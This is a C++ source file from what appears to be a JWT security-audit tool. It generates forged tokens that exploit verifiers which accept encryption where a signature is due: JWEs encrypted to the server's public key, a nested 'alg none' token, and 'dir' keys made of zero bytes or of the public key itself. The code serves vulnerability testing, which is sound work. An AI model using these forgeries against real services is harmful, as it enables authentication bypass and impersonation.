// SPDX-FileCopyrightText: Claimcheck contributors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// An encrypted token where a signed one is due: everybody can encrypt to a public key (RFC 8725 §2.3,
// CVE-2023-51774).

#include "families.h"
#include "making.h"
#include "publicforms.h"

#include <algorithm>
#include <array>

#include <jose/base64url.h>
#include <jose/encrypt.h>

namespace claimcheck::audit {

static void addEncrypted(Basket& basket, const std::string& variant, const char* algorithm,
                         const jose::Key& key, const std::string& content)
{
    const auto token =
        jose::encrypt(*jose::findKeyManagement(algorithm), *jose::findContentEncryption("A256GCM"),
                      std::span(&key, 1), content, {.allowWeakKeys = true});
    if (token)
        basket.add(std::string(algorithm) + " " + variant,
                   "a JWE that anybody can make, " + std::string(algorithm) + ": " + variant, *token,
                   ownChanges);
}

/// What spoke of signing in the key, left out: the attacker has only its numbers.
static jose::Key forEncrypting(jose::Key key)
{
    key.use.reset();
    key.keyOps.reset();
    key.alg.reset();
    return key;
}

/// The public key as the shared secret of "dir", in the forms that a server is likely to hold it in. Only a
/// raw Ed25519 key is as long as one of A256GCM; of the others the first bytes, which is what libraries take
/// that cut a longer key to length.
static void addUnderPublicKey(Basket& basket, const Material& material, const std::string& claims)
{
    static constexpr std::array<std::string_view, 5> likeliest{"pem", "as served", "spki", "modulus",
                                                               "point"};
    static constexpr std::size_t secretBytes = 32;
    std::vector<std::string> tried;
    for (const KeyForm& form : publicForms(material.publicKeys.front(), material.keyBytes)) {
        const std::string key = form.bytes.substr(0, secretBytes);
        const bool isLikely = std::ranges::find(likeliest, form.name) != likeliest.end();
        if (!isLikely || key.size() < secretBytes || std::ranges::find(tried, key) != tried.end())
            continue;
        tried.push_back(key);
        const bool isWhole = form.bytes.size() == secretBytes;
        addEncrypted(basket, (isWhole ? "" : "first 32 bytes of ") + form.meaning + " as key", "dir",
                     jose::secretKey(Secret(key)), claims);
    }
}

std::vector<Forgery> forgeEncrypted(const Material& material)
{
    Basket basket;
    const std::string claims = ownPayload(material);
    const std::string nested =
        jose::encodeBase64Url(R"({"alg":"none"})") + "." + jose::encodeBase64Url(claims) + ".";
    const jose::Key key = forEncrypting(material.publicKeys.front());
    const char* algorithm = key.type == jose::KeyType::Rsa ? "RSA-OAEP" : "ECDH-ES";
    if (key.type == jose::KeyType::Rsa || key.type == jose::KeyType::Ec) {
        addEncrypted(basket, "claims", algorithm, key, claims);
        addEncrypted(basket, "alg none inside", algorithm, key, nested);
    }
    addEncrypted(basket, "32 zero bytes as key", "dir", jose::secretKey(Secret(std::string(32, '\0'))),
                 claims);
    addUnderPublicKey(basket, material, claims);
    return basket.take();
}

} // namespace claimcheck::audit
